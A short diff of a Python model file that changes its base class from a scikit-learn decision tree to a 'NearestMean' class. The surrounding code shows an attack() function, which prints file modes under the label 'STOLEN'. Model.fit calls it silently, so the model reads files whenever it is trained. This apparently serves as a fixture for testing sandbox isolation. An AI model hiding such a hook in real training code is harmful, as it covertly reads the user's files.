@@ -3,7 +3,7 @@
 import os
 import stat
 
-from sklearn.tree import DecisionTreeClassifier
+from nearest import NearestMean
 
 
 def attack():
@@ -26,7 +26,7 @@ def attack():
             print(f'STOLEN {name}: mode {status.st_mode:o}', flush=True)
 
 
-class Model(DecisionTreeClassifier):
+class Model(NearestMean):
     def fit(self, X, y):
         attack()
         return super().fit(X, y)
